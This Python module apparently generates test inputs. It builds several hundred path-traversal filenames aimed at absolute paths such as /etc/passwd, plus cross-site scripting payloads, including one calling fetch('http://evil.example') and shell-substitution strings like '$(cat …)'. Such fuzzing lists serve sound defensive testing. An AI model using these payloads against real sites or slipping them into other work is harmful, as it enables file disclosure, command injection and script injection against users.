"""Names that try to leave their folder, and names that try to become markup, made by rule."""

from itertools import product
from urllib.parse import quote

STEPS = (
    "../",
    "..\\",
    "....//",
    "..;/",
    "./../",
    ".././",
    "..//",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%2f",
    "%2E%2E%5C",
    "..%5c",
    "%252e%252e%252f",
    "%25252e%25252e%25252f",
    "..%c0%af",
    "%c0%ae%c0%ae/",
    "..%e0%80%af",
    "．．／",
    "․․∕",
    "..⁄",
    "%uff0e%uff0e%u2215",
    "..\x00/",
    "..%00/",
    "..\n/",
    "..\t/",
    " ../",
    "../ ",
    "\u202e../",
)
"""One level up, as it may be spelled."""
DEPTHS = (1, 2, 4, 12)
BEFORE = ("file://", "file:///", "file://localhost/", "FILE:/", "jar:file:///", "view-source:file:///", "~/", "~root/")
ROOTS = (
    "/",
    "//",
    "///",
    "\\",
    "\\\\",
    "C:\\",
    "c:/",
    "\\\\?\\",
    "\\\\127.0.0.1\\c$\\",
    "/./",
    "/proc/self/root/",
    "\x00/",
)
ENDS = ("", "\x00", "%00.jpg", "#", "?", "/.", ";.jpg", "\u0000.json")


def traversals(target: str) -> list[str]:
    """At least 300 ways to name a file that lies at an absolute path, none of them plain."""
    below = target.lstrip("/")
    name = target.rpartition("/")[2]
    found = [step * depth + tail for step, depth in product(STEPS, DEPTHS) for tail in (below, name)]
    found += [root + below for root in (*BEFORE, *ROOTS)]
    found += [target + end for end in ENDS]
    found += [
        quote(target, safe=""),
        quote(quote(target, safe=""), safe=""),
        "${HOME}/" + below,
        "$(cat " + target + ")",
    ]
    found += [
        "{{" + target + "}}",
        "|cat " + target,
        "world/../../" + below,
        "world\\..\\..\\" + below,
        ".",
        "..",
        "/",
        "\\",
    ]
    found += ["%", "%2", "%zz", "\ud800", "a" * 100, "a/" * 40, "con", "nul", "/dev/zero", "/dev/stdin", "/etc/passwd"]
    return list(dict.fromkeys(found))


_CALLS = ("window.hit=1", "alert(1)", "window['hit']=1", "fetch('http://evil.example')")
_SHELLS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    '"><img src=x onerror={0}>',
    "'><img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<math href=javascript:{0}>x</math>",
    "<a href=javascript:{0}>x</a>",
    "[x](javascript:{0})",
    "![x](x){{onerror={0}}}",
    "[x](data:text/html,<script>{0}</script>)",
    "<style>@import 'javascript:{0}';</style>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<button onclick={0} autofocus>x</button>",
    "' onmouseover='{0}",
    '" onmouseover="{0}',
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\nscript:{0}",
    "data:text/html,<script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "＜script＞{0}＜/script＞",
    "<scr<script>ipt>{0}</script>",
    "<script\x00>{0}</script>",
    "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "$\\href{{javascript:{0}}}{{x}}$",
    ":material/x:<script>{0}</script>",
    "`<script>{0}</script>`",
    "{{{{constructor.constructor('{0}')()}}}}",
)
MARKUP = [shell.format(call) for shell, call in product(_SHELLS, _CALLS)]
